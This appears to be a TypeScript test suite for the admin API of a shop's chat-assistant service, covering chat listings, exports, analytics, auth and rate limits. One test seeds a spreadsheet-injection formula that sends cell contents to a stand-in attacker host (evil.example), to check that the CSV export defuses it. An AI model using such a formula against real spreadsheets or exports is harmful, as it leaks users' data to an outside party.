import { randomUUID } from 'node:crypto'
import t from 'tap'
import type pg from 'pg'
import type { FastifyInstance } from 'fastify'
import { parse } from 'csv-parse/sync'
import { harness, get, post } from './helpers.js'
import { TOKEN } from './support/search-stack.js'
import { MESSAGES_PER_PAGE } from '../src/store/messages.js'

interface SeedMessage {
  role: 'user' | 'assistant'
  content: string
  classification?: string
  citations?: unknown[]
  author?: string
  handoff?: boolean
  /** The turn's decision (only its handoff reason matters here). */
  reason?: string
  rating?: 'up' | 'down'
  /** Milliseconds after the chat's start; by default its place in the chat. */
  at?: number
}
interface Seed {
  consumer?: string
  created: Date
  updated?: Date
  needsHuman?: boolean
  test?: boolean
  messages: SeedMessage[]
}

const DAY = 86_400_000
const utcDay = (d: Date) => d.toISOString().slice(0, 10)

/** A chat written straight into the tables, with the times and flags a test needs. */
async function seed (db: pg.Pool, projectId: string, s: Seed): Promise<string> {
  const id = randomUUID()
  const updated = s.updated ?? new Date(s.created.getTime() + s.messages.length)
  await db.query(`INSERT INTO chats (project_id, id, consumer_id, is_test, message_count, created_at, last_updated_at, needs_human)
                  VALUES ($1, $2, $3, $4, $5, $6, $7, $8)`,
  [projectId, id, s.consumer ?? 'ann', s.test ?? false, s.messages.length, s.created, updated, s.needsHuman ?? false])
  for (const [seq, m] of s.messages.entries()) {
    const at = new Date(s.created.getTime() + (m.at ?? seq))
    await db.query(`INSERT INTO messages (project_id, chat_id, seq, id, role, content, classification, citations, created_at, author_username, handoff,
                                          decision, feedback_rating, feedback_at)
                    VALUES ($1, $2, $3, $4, $5, $6, $7, $8, $9, $10, $11, $12, $13, $14)`,
    [projectId, id, seq, randomUUID(), m.role, m.content, m.role === 'user' ? (m.classification ?? 'question') : null,
      m.role === 'assistant' ? JSON.stringify(m.citations ?? []) : null, at, m.author ?? null, m.handoff ?? false,
      m.reason === undefined ? null : JSON.stringify({ route: 'handoff', handoff_reason: m.reason, evidence: [] }), m.rating ?? null, m.rating === undefined ? null : at])
  }
  return id
}

const turn = (question: string, classification = 'question', reply = 'An answer.', extra: Partial<SeedMessage> = {}): SeedMessage[] =>
  [{ role: 'user', content: question, classification }, { role: 'assistant', content: reply, ...extra }]

const ERROR_KEYS = ['code', 'error', 'message', 'statusCode']

t.test('admin chat routes', async (t) => {
  const h = await harness(t)
  const app = await h.app({ serviceToken: TOKEN })
  const shop = await h.tenant()
  const other = await h.tenant('other shop')
  const admin = (method: 'GET' | 'DELETE' | 'POST', url: string, query: Record<string, string> = {}, projectId = shop.projectId) =>
    app.inject({ method, url, query, headers: { authorization: `Bearer ${TOKEN}`, 'x-project-id': projectId } })

  const now = Date.now()
  const ago = (minutes: number) => new Date(now - minutes * 60_000)
  const long = 'x'.repeat(250)
  const old = await seed(h.db, shop.projectId, { consumer: 'ann', created: ago(600), updated: ago(500), messages: turn('hello', 'greeting') })
  const waiting = await seed(h.db, shop.projectId, { consumer: 'ben', created: ago(400), updated: ago(300), needsHuman: true, messages: turn('I want to cancel my order', 'request', 'I cannot cancel orders.', { handoff: true }) })
  const recent = await seed(h.db, shop.projectId, { consumer: 'ann', created: ago(100), updated: ago(10), messages: [...turn('where is my parcel', 'question'), ...turn('this is terrible', 'complaint', long)] })
  const testChat = await seed(h.db, shop.projectId, { consumer: 'console:ana', created: ago(50), updated: ago(40), test: true, messages: turn('test question') })
  const waitingOlder = await seed(h.db, shop.projectId, { consumer: 'cid', created: ago(900), updated: ago(800), needsHuman: true, messages: turn('refund please', 'request') })
  const theirs = await seed(h.db, other.projectId, { consumer: 'ann', created: ago(5), messages: turn('their chat') })
  const listed = async (query: Record<string, string> = {}) => {
    const res = await admin('GET', '/admin/chats', query)
    t.equal(res.statusCode, 200, JSON.stringify(query))
    return res.json() as { chats: Array<Record<string, unknown> & { chat_id: string }>, next_cursor: string | null }
  }

  t.test('the listing puts chats waiting for a person first, then the most recently updated', async (t) => {
    const body = await listed()
    t.same(body.chats.map((c) => c.chat_id), [waiting, waitingOlder, recent, testChat, old])
    t.equal(body.next_cursor, null)
    t.notOk(body.chats.some((c) => c.chat_id === theirs), 'another project\'s chats are not listed')
    const chat = body.chats.find((c) => c.chat_id === recent)!
    t.same(chat, {
      chat_id: recent,
      consumer_id: 'ann',
      created_at: ago(100).toISOString(),
      last_updated_at: ago(10).toISOString(),
      message_count: 4,
      needs_human: false,
      is_test: false,
      classifications: ['complaint', 'question'],
      last_message: 'x'.repeat(200)
    })
    t.equal(body.chats.find((c) => c.chat_id === testChat)?.is_test, true, 'test chats are listed, flagged')
  })

  t.test('each filter narrows the listing', async (t) => {
    t.same((await listed({ consumer_id: 'ann' })).chats.map((c) => c.chat_id), [recent, old])
    t.same((await listed({ classification: 'request' })).chats.map((c) => c.chat_id), [waiting, waitingOlder])
    t.same((await listed({ classification: 'complaint' })).chats.map((c) => c.chat_id), [recent], 'any user message of the class counts')
    t.same((await listed({ classification: 'feedback' })).chats, [])
    t.same((await listed({ needs_human: 'true' })).chats.map((c) => c.chat_id), [waiting, waitingOlder])
    t.same((await listed({ needs_human: 'false' })).chats.map((c) => c.chat_id), [recent, testChat, old])
    t.same((await listed({ from: ago(350).toISOString() })).chats.map((c) => c.chat_id), [waiting, recent, testChat])
    t.same((await listed({ to: ago(300).toISOString() })).chats.map((c) => c.chat_id), [waitingOlder, old], 'to is exclusive')
    t.same((await listed({ from: ago(600).toISOString(), to: ago(20).toISOString(), consumer_id: 'ben' })).chats.map((c) => c.chat_id), [waiting], 'filters combine')
  })

  t.test('pages follow one another without gaps or repeats', async (t) => {
    const seen: string[] = []
    let cursor: string | null = null
    let pages = 0
    do {
      const body = await listed({ limit: '2', ...(cursor === null ? {} : { cursor }) })
      t.ok(body.chats.length <= 2)
      seen.push(...body.chats.map((c) => c.chat_id))
      cursor = body.next_cursor
      pages++
    } while (cursor !== null && pages < 10)
    t.equal(pages, 3)
    t.same(seen, [waiting, waitingOlder, recent, testChat, old])
    const filtered = await listed({ limit: '1', needs_human: 'true' })
    t.same(filtered.chats.map((c) => c.chat_id), [waiting])
    const next = await listed({ limit: '1', needs_human: 'true', cursor: filtered.next_cursor! })
    t.same(next.chats.map((c) => c.chat_id), [waitingOlder])
    t.equal(next.next_cursor, null, 'the last page says so')
  })

  t.test('bad query parameters get 400 with the error body', async (t) => {
    const cases: Array<[string, Record<string, string>, string]> = [
      ['/admin/chats', { limit: '0' }, 'invalid_request'],
      ['/admin/chats', { limit: '201' }, 'invalid_request'],
      ['/admin/chats', { limit: 'ten' }, 'invalid_request'],
      ['/admin/chats', { needs_human: 'maybe' }, 'invalid_request'],
      ['/admin/chats', { classification: 'rant' }, 'invalid_request'],
      ['/admin/chats', { from: 'yesterday' }, 'invalid_request'],
      ['/admin/chats', { cursor: 'not-a-cursor' }, 'invalid_request'],
      ['/admin/chats', { cursor: Buffer.from('[1,2,3]').toString('base64url') }, 'invalid_request'],
      // Each of these reached PostgreSQL and failed there (500): a leap second, and a cursor's NUL or date out of range.
      ['/admin/chats', { from: '2026-06-30T23:59:60Z' }, 'invalid_request'],
      ['/admin/chats/export', { format: 'json', to: '2026-06-30T23:59:60Z' }, 'invalid_request'],
      ['/admin/chats', { cursor: Buffer.from(JSON.stringify([true, '2026-01-01T00:00:00Z', 'a\u0000b'])).toString('base64url') }, 'invalid_request'],
      ['/admin/chats', { cursor: Buffer.from(JSON.stringify([true, '-271821-04-20T00:00:00.000Z', 'a'])).toString('base64url') }, 'invalid_request'],
      ['/admin/chats', { cursor: Buffer.from(JSON.stringify([true, '2026-01-01T00:00:00Z', 'x'.repeat(129)])).toString('base64url') }, 'invalid_request'],
      ['/admin/chats', { sort: 'asc' }, 'invalid_request'],
      ['/admin/chats/export', {}, 'missing_parameters'],
      ['/admin/chats/export', { format: 'xml' }, 'invalid_request'],
      ['/admin/analytics', { days: '0' }, 'invalid_request'],
      ['/admin/analytics', { days: '366' }, 'invalid_request'],
      ['/admin/analytics', { days: 'week' }, 'invalid_request']
    ]
    for (const [url, query, code] of cases) {
      const res = await admin('GET', url, query)
      const name = `${url} ${JSON.stringify(query)}`
      t.equal(res.statusCode, 400, name)
      t.same(Object.keys(res.json()).sort(), ERROR_KEYS, name)
      t.equal(res.json().code, code, name)
    }
    t.match((await admin('GET', '/admin/chats', { cursor: 'not-a-cursor' })).json().message, /cursor/)
  })

  t.test('one chat reads with its summary and the whole conversation, citations and authors', async (t) => {
    const cited = { source: 'faq', reference: 'faq-returns', confidence: 0.9, title: 'Returns', url: 'https://shop.example/faq#returns' }
    const id = await seed(h.db, shop.projectId, {
      consumer: 'dora',
      created: ago(30),
      messages: [...turn('how do returns work?', 'question', 'Within 30 days.', { citations: [cited] }), { role: 'assistant', content: 'I have sent you a label.', author: 'ana' }]
    })
    const res = await admin('GET', `/admin/chats/${id}`)
    t.equal(res.statusCode, 200)
    const body = res.json()
    t.match(body.chat, { chat_id: id, consumer_id: 'dora', message_count: 3, classifications: ['question'], last_message: 'I have sent you a label.' })
    t.match(body.messages, [
      { role: 'user', content: 'how do returns work?', classification: 'question' },
      { role: 'assistant', content: 'Within 30 days.', citations: [cited], author: { kind: 'assistant' } },
      { role: 'assistant', content: 'I have sent you a label.', author: { kind: 'human', username: 'ana' } }
    ])
    t.equal(body.messages.length, 3)
    await h.db.query('DELETE FROM chats WHERE id = $1', [id])
  })

  t.test('a long conversation is sent whole, a page at a time, to the team and to the shopper', async (t) => {
    const turns = MESSAGES_PER_PAGE + 3 // 2 × MESSAGES_PER_PAGE + 6 messages: three pages, the last a short one
    const messages = Array.from({ length: turns }, (_, i) => turn(`question ${i}`, 'question', `answer ${i}`, i === 107 ? { reason: 'unanswered', rating: 'down' } : {})).flat()
    const id = await seed(h.db, shop.projectId, { consumer: 'long', created: ago(20), messages })
    const contents = messages.map((m) => m.content)

    const team = await admin('GET', `/admin/chats/${id}`)
    t.equal(team.statusCode, 200)
    t.equal(team.headers['transfer-encoding'], 'chunked', 'streamed, not built whole')
    const body = team.json()
    t.match(body.chat, { chat_id: id, message_count: 2 * turns })
    t.same(body.messages.map((m: { content: string }) => m.content), contents, 'every message, in order, across the pages')
    t.match(body.messages[215], { decision: { handoff_reason: 'unanswered' }, feedback: { rating: 'down' } }, 'decisions and ratings on a later page too')
    t.equal(new Set(body.messages.map((m: { msg_id: string }) => m.msg_id)).size, 2 * turns, 'no message twice')

    const shopper = await get(app, shop.key, '/readConversation', { chat_id: id })
    t.equal(shopper.statusCode, 200)
    t.equal(shopper.headers['transfer-encoding'], 'chunked')
    t.same(shopper.json(), body.messages.map(({ decision, feedback, ...m }: Record<string, unknown>) => m), 'what the team reads, without decisions or ratings')

    // A conversation of exactly one page is one whole body, as is its transcript.
    const onePage = await seed(h.db, shop.projectId, { consumer: 'long', created: ago(20), messages: messages.slice(0, MESSAGES_PER_PAGE) })
    const whole = await get(app, shop.key, '/readConversation', { chat_id: onePage })
    t.equal(whole.json().length, MESSAGES_PER_PAGE)
    t.equal(whole.headers['content-length'], String(whole.rawPayload.length), 'sent whole, not streamed')
    const wholeTranscript = await admin('GET', `/admin/chats/${onePage}`)
    t.equal(wholeTranscript.json().messages.length, MESSAGES_PER_PAGE)
    t.equal(wholeTranscript.headers['transfer-encoding'], undefined)
    await h.db.query('DELETE FROM chats WHERE id = ANY($1)', [[id, onePage]])
  })

  t.test('an unknown chat, or another project\'s, is not found', async (t) => {
    for (const url of [`/admin/chats/${theirs}`, '/admin/chats/no-such-chat']) {
      for (const method of ['GET', 'DELETE'] as const) {
        const res = await admin(method, url)
        t.equal(res.statusCode, 404, `${method} ${url}`)
        t.same(res.json(), { statusCode: 404, error: 'Chat Not Found', code: 'chat_not_found', message: res.json().message })
      }
    }
    t.equal((await admin('GET', `/admin/chats/${theirs}`, {}, other.projectId)).statusCode, 200, 'their chat is still there for them')
  })

  t.test('a deleted chat is gone for the team and for the shopper', async (t) => {
    const id = await seed(h.db, shop.projectId, { consumer: 'eve', created: ago(20), messages: turn('delete me') })
    const res = await admin('DELETE', `/admin/chats/${id}`)
    t.equal(res.statusCode, 200)
    t.same(res.json(), { deleted: true })
    t.equal((await admin('GET', `/admin/chats/${id}`)).statusCode, 404)
    t.equal((await get(app, shop.key, '/readConversation', { chat_id: id })).statusCode, 404)
    t.equal((await h.db.query('SELECT 1 FROM messages WHERE chat_id = $1', [id])).rowCount, 0, 'its messages went with it')
    t.equal((await admin('DELETE', `/admin/chats/${id}`)).statusCode, 404, 'a second delete finds nothing')
  })

  t.test('the CSV export is one row per message, quoted as RFC 4180 says', async (t) => {
    const tricky = 'He said "hi, there",\nthen left\r\nfor good'
    const id = await seed(h.db, shop.projectId, { consumer: 'fay, "the" shopper', created: ago(15), messages: turn(tricky, 'feedback', 'Thanks, noted.', { citations: [{ source: 'catalog', reference: 'sku-1', confidence: 1 }] }) })
    const res = await admin('GET', '/admin/chats/export', { format: 'csv', consumer_id: 'fay, "the" shopper' })
    t.equal(res.statusCode, 200)
    t.match(res.headers['content-type'], /^text\/csv/)
    t.match(res.headers['content-disposition'], /^attachment; filename="chats-\d{4}-\d{2}-\d{2}\.csv"$/)
    t.ok(res.body.startsWith('chat_id,consumer_id,seq,role,author,classification,content,citations,created_at,decision_route,feedback_rating,feedback_comment\r\n'))
    t.ok(res.body.includes('"He said ""hi, there"",\nthen left\r\nfor good"'), 'quotes doubled, the field quoted')
    const rows = parse(res.body, { columns: true }) as Array<Record<string, string>>
    t.same(rows.map((r) => [r.chat_id, r.consumer_id, r.seq, r.role, r.author, r.classification, r.content]), [
      [id, 'fay, "the" shopper', '0', 'user', '', 'feedback', tricky],
      [id, 'fay, "the" shopper', '1', 'assistant', 'assistant', '', 'Thanks, noted.']
    ])
    t.same(JSON.parse(rows[1]!.citations!), [{ source: 'catalog', reference: 'sku-1', confidence: 1 }])
    t.equal(rows[0]!.citations, '')
    await h.db.query('DELETE FROM chats WHERE id = $1', [id])
  })

  t.test('the CSV export keeps a shopper\'s formula from running in a spreadsheet', async (t) => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&B2&C2,"Click")'
    const id = await seed(h.db, shop.projectId, { consumer: '@evil', created: ago(15), messages: turn(formula, 'question', '-1 is not a size we stock') })
    const res = await admin('GET', '/admin/chats/export', { format: 'csv', consumer_id: '@evil' })
    const rows = parse(res.body, { columns: true }) as Array<Record<string, string>>
    t.same(rows.map((r) => [r.consumer_id, r.seq, r.content]), [['\'@evil', '0', `'${formula}`], ['\'@evil', '1', "'-1 is not a size we stock"]],
      'a text cell opening with = + - or @ starts with a quote; numbers are left alone')
    const json = await admin('GET', '/admin/chats/export', { format: 'json', consumer_id: '@evil' })
    t.equal(json.json()[0].messages[0].content, formula, 'the JSON export keeps the text as written')
    await h.db.query('DELETE FROM chats WHERE id = $1', [id])
  })

  t.test('the JSON export holds every chat passing the filters with its messages', async (t) => {
    const res = await admin('GET', '/admin/chats/export', { format: 'json', consumer_id: 'ann' })
    t.equal(res.statusCode, 200)
    t.match(res.headers['content-type'], /^application\/json/)
    t.match(res.headers['content-disposition'], /filename="chats-.*\.json"/)
    const body = res.json() as Array<{ chat: { chat_id: string }, messages: Array<{ content: string }> }>
    t.same(body.map((e) => e.chat.chat_id), [recent, old])
    t.same(body[0]!.messages.map((m) => m.content), ['where is my parcel', 'An answer.', 'this is terrible', long])
    const all = (await admin('GET', '/admin/chats/export', { format: 'json' })).json() as unknown[]
    t.equal(all.length, 5, 'every chat of the project, none of another')
    t.same((await admin('GET', '/admin/chats/export', { format: 'json', consumer_id: 'nobody' })).json(), [])
  })

  t.test('a project key gets 401 on every admin route', async (t) => {
    const routes: Array<['GET' | 'DELETE' | 'POST', string]> = [
      ['GET', '/admin/chats'], ['GET', `/admin/chats/${recent}`], ['DELETE', `/admin/chats/${recent}`],
      ['GET', '/admin/chats/export?format=json'], ['GET', '/admin/analytics'], ['POST', `/admin/chats/${recent}/answer`]
    ]
    for (const [method, url] of routes) {
      const res = await app.inject({ method, url, headers: { authorization: `Bearer ${shop.key}` }, ...(method === 'POST' ? { payload: { content: 'hi', username: 'ana' } } : {}) })
      t.equal(res.statusCode, 401, `${method} ${url}`)
      t.equal(res.json().code, 'unauthorized', `${method} ${url}`)
      const unnamed = await app.inject({ method, url, headers: { authorization: `Bearer ${TOKEN}` } })
      t.equal(unnamed.statusCode, 401, `${method} ${url}: the service token must name its project`)
    }
    t.equal((await admin('GET', `/admin/chats/${recent}`)).statusCode, 200, 'the chat was not deleted by the refused request')
  })
})

t.test('chat analytics', async (t) => {
  const h = await harness(t)
  const app = await h.app({ serviceToken: TOKEN })
  const shop = await h.tenant()
  const other = await h.tenant('other shop')
  const analytics = async (app: FastifyInstance, query: Record<string, string> = {}) => {
    const res = await app.inject({ url: '/admin/analytics', query, headers: { authorization: `Bearer ${TOKEN}`, 'x-project-id': shop.projectId } })
    t.equal(res.statusCode, 200)
    return res.json()
  }
  const today = new Date()
  const daysAgo = (n: number) => new Date(today.getTime() - n * DAY)

  await seed(h.db, shop.projectId, { created: daysAgo(0), messages: [...turn('hi', 'greeting'), ...turn('where is my order', 'question')] })
  await seed(h.db, shop.projectId, { created: daysAgo(2), messages: turn('cancel my order', 'request', 'I cannot.', { handoff: true }) })
  // Answered by the team since: no longer waiting, but it was handed off.
  await seed(h.db, shop.projectId, { created: daysAgo(2), messages: [...turn('this is broken', 'complaint', 'Sorry.', { handoff: true }), { role: 'assistant', content: 'Fixed.', author: 'ana' }] })
  await seed(h.db, shop.projectId, { created: daysAgo(0), test: true, messages: turn('test message', 'feedback') })
  await seed(h.db, shop.projectId, { created: daysAgo(10), messages: turn('long ago', 'other') })
  await seed(h.db, other.projectId, { created: daysAgo(0), messages: turn('theirs', 'feedback') })

  const body = await analytics(app, { days: '7' })
  t.equal(body.days, 7)
  t.equal(body.chats_per_day.length, 7, 'every day of the range')
  t.same(body.chats_per_day.map((d: { day: string }) => d.day), [6, 5, 4, 3, 2, 1, 0].map((n) => utcDay(daysAgo(n))), 'earliest first, today last')
  const byDay = Object.fromEntries(body.chats_per_day.map((d: { day: string, chats: number, messages: number }) => [d.day, [d.chats, d.messages]]))
  t.same(byDay[utcDay(daysAgo(0))], [1, 4], 'the test chat and another project\'s are not counted')
  t.same(byDay[utcDay(daysAgo(2))], [2, 5])
  t.same(byDay[utcDay(daysAgo(1))], [0, 0], 'a quiet day is there, zero')
  t.same(body.classifications, { question: 1, request: 1, greeting: 1, complaint: 1, feedback: 0, other: 0 })
  t.same(body.handoff, { chats: 3, handed_off: 2, rate: 2 / 3, reasons: { action: 0, person: 0, complaint: 0, unanswered: 0 } },
    'turns stored without a decision have no reason')
  t.same(body.resolution, { chats: 3, resolved: 1, rate: 1 / 3 })
  t.same(body.team_answer, { handoffs: 2, answered: 1, median_seconds: 0.001 }, 'the team answered one, a millisecond after the turn')
  t.same(body.feedback, { up: 0, down: 0, ratio: null }, 'no reply rated')
  t.same(body.unanswered, [])
  t.same(body.top_cited, { knowledge: [], faq: [], catalog: [] })

  const month = await analytics(app)
  t.equal(month.days, 30, '30 days by default')
  t.equal(month.chats_per_day.length, 30)
  t.equal(month.classifications.other, 1, 'the older chat is inside 30 days')
  t.equal(month.handoff.chats, 4)

  t.test('resolution, handoff reasons, the team\'s answer time, unanswered questions grouped, the sources cited most', async (t) => {
    const fresh = await h.tenant('analytics shop')
    const at = daysAgo(1)
    const unanswered = (question: string, created: Date) =>
      seed(h.db, fresh.projectId, { created, messages: turn(question, 'question', 'I could not find that.', { handoff: true, reason: 'unanswered' }) })
    await unanswered('Is there a student discount?', new Date(at.getTime() + 1000))
    const latestDiscount = await unanswered('do you offer student discounts', new Date(at.getTime() + 3000))
    const bitcoin = await unanswered('Can I pay with bitcoin?', new Date(at.getTime() + 2000))
    const MINUTE = 60_000
    // Two turns handed off, then the team: 3 and 1 minutes after them.
    await seed(h.db, fresh.projectId, {
      created: at,
      messages: [
        ...turn('I want to speak to a person', 'request', 'A team member will answer here.', { handoff: true, reason: 'person', at: 0 }),
        ...turn('hello?', 'other', 'A team member will answer here.', { handoff: true, reason: 'person', at: 2 * MINUTE }),
        { role: 'assistant', content: 'Hi, Ana here.', author: 'ana', at: 3 * MINUTE }
      ]
    })
    await seed(h.db, fresh.projectId, { created: at, messages: turn('cancel my order', 'request', 'The team will.', { handoff: true, reason: 'action' }) })
    const shipping = (chunk: string) => ({ source: 'knowledge', reference: `shipping#${chunk}`, confidence: 0.9, title: 'Shipping' })
    await seed(h.db, fresh.projectId, {
      created: at,
      messages: turn('how long is shipping', 'question', 'Three days.', {
        rating: 'up',
        citations: [shipping('c1'), shipping('c2'), { source: 'faq', reference: 'faq-returns', confidence: 1 }, { source: 'catalog', reference: 'sku-1', confidence: 0.8, title: 'Boots' }]
      })
    })
    await seed(h.db, fresh.projectId, { created: at, messages: turn('and to Alaska?', 'question', 'Three days.', { rating: 'down', citations: [shipping('c3')] }) })
    await seed(h.db, fresh.projectId, { created: at, messages: turn('thanks', 'feedback', 'You are welcome.') })

    const res = await app.inject({ url: '/admin/analytics?days=7', headers: { authorization: `Bearer ${TOKEN}`, 'x-project-id': fresh.projectId } })
    t.equal(res.statusCode, 200)
    const body = res.json()
    t.same(body.resolution, { chats: 8, resolved: 2, rate: 2 / 8 }, 'a chat handed off or rated down is not resolved')
    t.same(body.handoff.reasons, { action: 1, person: 2, complaint: 0, unanswered: 3 })
    t.same(body.team_answer, { handoffs: 6, answered: 2, median_seconds: 120 }, 'the median of 3 and 1 minutes')
    t.same(body.feedback, { up: 1, down: 1, ratio: 0.5 })
    t.same(body.unanswered, [
      { question: 'do you offer student discounts', count: 2, last_asked_at: new Date(at.getTime() + 3000).toISOString(), chat_id: latestDiscount },
      { question: 'Can I pay with bitcoin?', count: 1, last_asked_at: new Date(at.getTime() + 2000).toISOString(), chat_id: bitcoin }
    ], 'the same question in other words is one group, its latest wording shown; most asked first')
    t.same(body.top_cited, {
      knowledge: [{ reference: 'shipping', title: 'Shipping', count: 2 }],
      faq: [{ reference: 'faq-returns', count: 1 }],
      catalog: [{ reference: 'sku-1', title: 'Boots', count: 1 }]
    }, 'a document counts once per reply, whichever of its chunks were cited')
  })

  t.test('a turn the assistant hands off counts, also once a person has answered', async (t) => {
    const fresh = await h.tenant('fresh shop')
    const res = await post(app, fresh.key, '/newUserMessage', { user_message: 'I want to cancel my order', consumer_id: 'gus' })
    t.equal(res.json().handoff, true)
    await post(app, fresh.key, '/newUserMessage', { user_message: 'I want to cancel my order', consumer_id: 'tester', test: true })
    const answered = await app.inject({
      method: 'POST', url: `/admin/chats/${res.json().chat_id as string}/answer`, headers: { authorization: `Bearer ${TOKEN}`, 'x-project-id': fresh.projectId }, payload: { content: 'Done.', username: 'ana' }
    })
    t.equal(answered.statusCode, 201)
    const stats = (await app.inject({ url: '/admin/analytics?days=1', headers: { authorization: `Bearer ${TOKEN}`, 'x-project-id': fresh.projectId } })).json()
    t.match(stats.handoff, { chats: 1, handed_off: 1, rate: 1, reasons: { action: 1 } }, 'the test chat is left out')
    t.match(stats.team_answer, { handoffs: 1, answered: 1 })
    t.same(stats.chats_per_day, [{ day: utcDay(new Date()), chats: 1, messages: 3 }])
  })

  t.test('admin routes count against their own rate limit, not the public routes\'', async (t) => {
    const limited = await h.app({ serviceToken: TOKEN, rateLimits: { chatWrite: 1, chatRead: 1, admin: 3 } })
    const call = () => limited.inject({ url: '/admin/analytics?days=1', headers: { authorization: `Bearer ${TOKEN}`, 'x-project-id': shop.projectId } })
    const first = await call()
    t.equal(first.statusCode, 200)
    t.equal(first.headers['ratelimit-limit'], '3')
    await call()
    t.equal((await call()).statusCode, 200, 'past the public routes\' limit of 1')
    const refused = await call()
    t.equal(refused.statusCode, 429)
    t.equal(refused.json().code, 'rate_limited')
    t.equal((await get(limited, shop.key, '/listAllProjectChats')).statusCode, 200, 'the project\'s own reads are counted apart')
  })
})

t.test('an export larger than one batch streams every chat with its own messages, in order', async (t) => {
  const h = await harness(t)
  const app = await h.app({ serviceToken: TOKEN })
  const shop = await h.tenant()
  const count = 1234
  await h.db.query(`INSERT INTO chats (project_id, id, consumer_id, message_count, created_at, last_updated_at, needs_human)
    SELECT $1, 'chat-' || lpad(i::text, 5, '0'), 'c' || (i % 7), 1, now() - i * interval '1 minute', now() - i * interval '1 minute', i % 100 = 0
    FROM generate_series(1, $2::int) i`, [shop.projectId, count])
  await h.db.query(`INSERT INTO messages (project_id, chat_id, seq, id, role, content, classification, created_at)
    SELECT $1, id, 0, id || '-m', 'user', 'message of ' || id, 'question', created_at FROM chats WHERE project_id = $1`, [shop.projectId])
  const headers = { authorization: `Bearer ${TOKEN}`, 'x-project-id': shop.projectId }

  const json = await app.inject({ url: '/admin/chats/export?format=json', headers })
  t.equal(json.statusCode, 200)
  const chats = json.json() as Array<{ chat: { chat_id: string, needs_human: boolean }, messages: Array<{ content: string }> }>
  t.equal(chats.length, count)
  t.ok(chats.every((c) => c.messages.length === 1 && c.messages[0]!.content === `message of ${c.chat.chat_id}`), 'each chat with its own messages')
  const flagged = chats.findIndex((c) => !c.chat.needs_human)
  t.equal(flagged, 12, 'the 12 chats waiting for a person come first')
  t.same(chats.slice(12, 14).map((c) => c.chat.chat_id), ['chat-00001', 'chat-00002'])

  const csv = await app.inject({ url: '/admin/chats/export?format=csv', headers })
  t.equal(csv.statusCode, 200)
  t.equal(csv.body.trimEnd().split('\r\n').length, count + 1, 'a header and one row per message')
})
